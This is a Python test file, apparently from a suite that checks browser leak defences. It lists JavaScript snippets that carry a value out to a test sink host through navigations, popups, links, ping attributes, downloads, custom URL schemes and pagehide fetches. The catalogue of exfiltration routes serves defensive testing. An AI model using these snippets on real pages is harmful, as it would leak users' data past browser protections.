"""Channels: navigations of the page, pop-ups, links, downloads and addresses of other schemes."""

from __future__ import annotations

from tests.channels.channel import ONLY_FIRST, ONLY_THIRD, Channel, File, Then

_WRITES = """w.document.write(`<script>new Image().src = "${u("written", v)}"</scr` + "ipt>")"""

CHANNELS = (
    Channel("location-assign", 'location.assign(u("location", v))'),
    Channel("location-replace", 'location.replace(u("location", v))'),
    Channel("location-of-frame", 'frame().location = u("location", v)'),
    Channel("location-host", 'location = `https://${v}.${HOST}/sink/host`'),
    Channel("location-path", 'location = `${TO}/sink/${v}/path`'),
    Channel("location-hex", 'location = u("location", [...v].map((c) => c.charCodeAt(0).toString(16)).join(""))'),
    Channel("location-backwards", 'location = u("location", [...v].reverse().join(""))'),
    Channel("navigation-api", 'navigation.navigate(u("navigate", v))'),
    Channel("meta-refresh", 'head("meta", {"http-equiv": "refresh", content: `0; url=${u("refresh", v)}`})'),
    Channel("javascript-address", 'location = `javascript:void fetch("${u("js", v)}", {mode: "no-cors"})`'),
    Channel("link", 'link({href: u("link", v)})'),
    Channel("link-blank", 'link({href: u("link", v), target: "_blank"})'),
    Channel("link-opener", 'link({href: u("link", v), target: "_blank", rel: "opener"})'),
    Channel("link-base", 'head("base", {href: TO}); link({href: "/sink/base?d=" + v})'),
    Channel("link-svg", """add("div").innerHTML = `<svg><a href="${u("svga", v)}"><text>x</text></a></svg>`;
      document.querySelector("svg a").dispatchEvent(new MouseEvent("click"))"""),
    Channel("link-area", """add("map", {name: "m"}); add("area", {href: u("area", v)},
      document.querySelector("map")).click()"""),
    Channel("popup", 'open(u("popup", v))'),
    Channel("popup-noopener", 'open(u("popup", v), "_blank", "noopener")'),
    Channel("popup-self", 'open(u("popup", v), "_self")'),
    Channel("popup-then-location", 'const w = open("about:blank"); w.location = u("popup", v)'),
    Channel("popup-script", f'const w = open("about:blank"); {_WRITES}'),
    Channel("popup-image", """const w = open("about:blank"); const i = w.document.createElement("img");
      i.src = u("popupimg", v); w.document.body.append(i)"""),
    Channel("popup-fetch", 'const w = open("about:blank"); w.fetch(u("popupfetch", v), {mode: "no-cors"})'),
    Channel("popup-blob", """open(blob(`<script>new Image().src = "${u("blob", v)}"</scr` + "ipt>", "text/html"))"""),
    Channel("picture-in-picture", """const w = await documentPictureInPicture.requestWindow();
      w.document.body.innerHTML = `<img src="${u("pip", v)}">`"""),
    Channel("history-reload", 'history.replaceState(0, "", "?d=" + v); location.reload()', targets=ONLY_FIRST),
    Channel("history-leave", 'history.replaceState(0, "", "?d=" + v); location = "/"', targets=ONLY_FIRST),
    Channel("ping", 'link({href: "#", ping: u("ping", v)})'),
    Channel("ping-from", """history.replaceState(0, "", "?d=" + v); link({href: "#", ping: u("ping", 0)})"""),
    Channel("download-attribute", 'link({href: u("download", v), download: "x"})'),
    Channel("download-navigation", 'location = at("attached") + "?d=" + v', targets=ONLY_FIRST,
            files={"attached": File("x", "application/octet-stream", (("Content-Disposition", "attachment"),))}),
    Channel("download-blob-page", 'link({href: blob(`<img src="${u("x", v)}">`, "text/html"), download: "x.html"})',
            unseen="the file is only written to disk"),
    Channel("mailto", 'location = `mailto:x@${HOST}?body=${v}`', targets=ONLY_THIRD),
    Channel("mailto-frame", 'add("iframe", {src: `mailto:x@${HOST}?body=${v}`})', targets=ONLY_THIRD),
    Channel("tel", 'location = `tel:+49${v}`', targets=ONLY_THIRD),
    Channel("sms", 'link({href: `sms:1?body=${v}`})', targets=ONLY_THIRD),
    Channel("own-scheme", 'location = `zoommtg://${HOST}/?d=${v}`', targets=ONLY_THIRD),
    Channel("intent", 'location = `intent://${HOST}/${v}#Intent;scheme=https;end`', targets=ONLY_THIRD,
            unseen="Android alone knows this scheme"),
    Channel("ftp", 'location = `ftp://${v}.${HOST}/x`', targets=ONLY_THIRD),
    Channel("file", 'location = `file://${HOST}/${v}`', targets=ONLY_THIRD,
            unseen="a web page may not open files"),
    Channel("view-source", 'location = `view-source:${u("source", v)}`', unseen="a web page may not open this scheme"),
    Channel("protocol-handler", """navigator.registerProtocolHandler("web+x", TO + "/sink/handler?d=%s");
      location = "web+x:" + v""", targets=ONLY_FIRST, unseen="needs the person's consent to a handler"),
    Channel("leave-after-write", """window.name = v; addEventListener("pagehide", () => { fetch(u("hide", v),
      {mode: "no-cors", keepalive: true}); })""",
            then=Then.LEAVE),
)
